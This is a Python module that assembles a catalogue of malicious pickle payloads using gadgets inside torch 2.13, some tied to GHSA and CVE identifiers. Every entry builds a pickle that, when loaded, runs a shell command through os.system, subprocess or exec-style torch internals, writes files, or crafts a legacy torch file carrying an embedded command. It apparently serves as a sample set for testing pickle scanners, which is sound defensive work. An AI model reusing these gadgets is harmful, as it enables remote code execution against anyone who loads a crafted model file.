"""Raw pickles whose gadget lies inside torch, found by reading the source of torch 2.13."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from .asm import Build, Call, Global, New, Raw, encode, pickled
from .sample import Kit, Sample, gadget

G, C = Global, Call
SYSTEM = G("os.system")


def samples() -> list[Sample]:
    """All of this module."""
    return [*_torch(), *_torch_more()]


def nested(kit: Kit) -> bytes:
    return pickled(C(SYSTEM, kit.shell), 2)


def family(needs: str, entries: dict[str, Callable[[Kit], Any]], **calls: tuple[str, ...]) -> list[Sample]:
    prefix = needs.replace("_", "-").replace(".", "-")
    return [
        gadget(
            f"{prefix}-{name}",
            f"a function inside {needs} that runs code or commands, or writes files",
            build,
            needs=(needs,),
            calls=calls.get(name.replace("-", "_"), ()),
            reference=_REFERENCES.get(f"{prefix}-{name}", ""),
        )
        for name, build in entries.items()
    ]


_REFERENCES = {
    "torch-collect-env": "GHSA-f745-w6jp-hpxx",
    "torch-basichandlers": "GHSA-h3qp-7fh3-f8h4",
    "torch-exec-wrapper": "GHSA-vr7h-p6mm-wpmh",
    "torch-load-config": "GHSA-vv6j-3g6g-2pvj",
    "torch-guard-expression": "GHSA-f4x7-rfwp-v3xw",
    "torch-guard-builder": "GHSA-86cj-95qr-2p4f",
    "torch-parse-type-line": "CVE-2022-45907",
    "torch-rpc-run-function": "CVE-2024-5480",
}


def _torch() -> list[Sample]:
    return family(
        "torch",
        {
            "collect-env": lambda k: C(G("torch.utils.collect_env.run"), k.shell),
            "collect-env-read": lambda k: C(
                G("torch.utils.collect_env.run_and_read_all"), G("torch.utils.collect_env.run"), k.shell
            ),
            "exec-wrapper": lambda k: C(G("torch.jit.unsupported_tensor_ops.execWrapper"), k.code, {}, {}),
            "load-config": lambda k: C(G("torch._inductor.config", "load_config"), nested(k)),
            "basichandlers": lambda k: C(
                G("torch.utils.data.datapipes.utils.decoder.basichandlers"), "pickle", nested(k)
            ),
            "guard-expression": lambda k: C(
                G("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
                New(G("torch.fx.experimental.symbolic_shapes.ShapeEnv")),
                k.code,
                [],
            ),
            "load-from-bytes": lambda k: C(G("torch.storage._load_from_bytes"), legacy_torch(k)),
            "fx-exec": lambda k: C(G("torch.fx.graph_module._exec_with_source"), k.code, {}),
            "fx-forward-from-src": lambda k: C(
                G("torch.fx.graph_module._forward_from_src"), f"{k.code}\nforward = None", {}
            ),
            "fx-reduce-graph-module": lambda k: C(
                G("torch.fx.graph_module.reduce_graph_module"), {"_code": f"{k.code}\ndef forward(self): pass"}, ""
            ),
            "fx-import-block": lambda k: C(
                G("torch.fx.graph_module.reduce_graph_module"), {"_code": "def forward(self): pass"}, k.code + "\n"
            ),
            "remote-module-instantiator": lambda k: C(
                G("torch.distributed.rpc.internal._run_function"),
                C(G("torch.distributed.rpc.internal.PythonUDF"), SYSTEM, (k.shell,), {}),
            ),
            "rpc-deserialize": lambda k: C(G("torch.distributed.rpc.internal.deserialize"), nested(k), []),
            "serialization-load": lambda k: C(
                G("torch.serialization._legacy_load"),
                C(G("io.BytesIO"), legacy_torch(k)),
                "cpu",
                G("torch.serialization", "pickle"),
            ),
            "package-importer": lambda k: C(
                G("torch.multiprocessing.queue", "ConnectionWrapper.recv"),
                C(
                    G("torch.multiprocessing.queue.ConnectionWrapper"),
                    C(
                        C(
                            G("builtins.type"),
                            "X",
                            (),
                            {"recv_bytes": C(G("functools.partial"), G("operator.add"), nested(k), b"")},
                        )
                    ),
                ),
            ),
            "elastic-state": lambda k: C(G("torch._dynamo.pgo", "pickle.loads"), nested(k)),
            "sympy-interp": lambda k: C(C(G("torch.fx.experimental.proxy_tensor.fake_signature"), SYSTEM, 1), k.shell),
            "library-schema": lambda k: C(G("torch.hub", "os.system"), k.shell),
            "hub-read-file": lambda k: C(
                C(
                    G("builtins.getattr"),
                    C(G("torch.hub._import_module"), "payload", written("payload_file.py", k)),
                    "x",
                )
            ),
            "run-cpu": lambda k: C(G("torch.utils.cpp_extension", "subprocess.getoutput"), k.shell),
            "compile-check": lambda k: C(G("torch._inductor.cpp_builder.run_compile_cmd"), k.shell, "."),
            "save": lambda k: C(G("torch.save"), [1], k.path),
            "from-file": lambda k: C(G("torch.from_file"), k.path, True, 4),
            "storage-from-file": lambda k: C(G("torch.storage", "UntypedStorage.from_file"), k.path, True, 4),
            "write-record": lambda k: C(G("torch._C.PyTorchFileWriter"), k.path),
            "builtins-of-torch": lambda k: C(C(G("builtins", "dict.get"), G("torch", "__builtins__"), "exec"), k.code),
            "tree-map": lambda k: C(G("torch.utils._pytree.tree_map"), SYSTEM, [k.shell]),
            "map-local": lambda k: C(G("torch.utils.data._utils.collate.default_collate"), [C(SYSTEM, k.shell)]),
            "module-apply": lambda k: C(
                G("torch.nn", "Module.apply"),
                C(G("torch.nn.Module")),
                C(G("functools.partial"), G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)),
            ),
        },
        remote_module_instantiator=(
            "torch.distributed.rpc.internal._run_function",
            "torch.distributed.rpc.internal.PythonUDF",
            "os.system",
        ),
        load_from_bytes=("torch.storage._load_from_bytes", "os.system", "posix.system"),
    )


def written(name: str, kit: Kit) -> Raw:
    """Write a Python file, leave its name."""
    write = C(G("pathlib", "Path.write_text"), C(G("pathlib.Path"), name), kit.code)
    return Raw(encode(write, 4) + b"0" + encode(name, 4))


def legacy_torch(kit: Kit) -> bytes:
    """A torch file of before 1.6: five pickles in a row."""
    return (
        pickled(0x1950A86A20F9469CFC6C, 2)
        + pickled(1001, 2)
        + pickled({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
        + pickled(C(SYSTEM, kit.shell), 2)
        + pickled([], 2)
    )


def _torch_more() -> list[Sample]:
    """Hooks that torch's own classes run while they are rebuilt."""
    return family(
        "torch",
        {
            "rebuild-parameter-state": lambda k: C(
                G("torch._utils._set_obj_state"), C(C(G("builtins.type"), "X", (), {})), C(SYSTEM, k.shell)
            ),
            "rebuild-from-type": lambda k: C(
                G("torch._tensor._rebuild_from_type_v2"), SYSTEM, G("builtins.int"), (k.shell,), None
            ),
            "rebuild-from-type-1": lambda k: C(
                G("torch._tensor._rebuild_from_type"), SYSTEM, G("builtins.int"), (k.shell,), {}
            ),
            "unpickle-node": lambda k: C(
                G("torch._library.infer_schema", "typing.ForwardRef._evaluate"),
                C(G("typing.ForwardRef"), k.code),
                {},
                {},
                C(G("builtins.frozenset")),
            ),
            "dispatch-table-tensor": lambda k: C(
                G("torch._utils._rebuild_device_tensor_from_numpy"), C(SYSTEM, k.shell), None, None, False
            ),
            "backward-hooks": lambda k: C(
                G("torch._utils._rebuild_tensor_v2"),
                C(SYSTEM, k.shell),
                0,
                (1,),
                (1,),
                False,
                C(G("collections.OrderedDict")),
            ),
            "ordered-hooks": lambda k: C(
                G("torch._utils._rebuild_parameter"), C(SYSTEM, k.shell), True, C(G("collections.OrderedDict"))
            ),
            "setstate-module": lambda k: Build(New(G("torch.nn.Module")), C(SYSTEM, k.shell)),
        },
        unpickle_node=("torch._library.infer_schema.typing.ForwardRef._evaluate", "typing.ForwardRef"),
    )
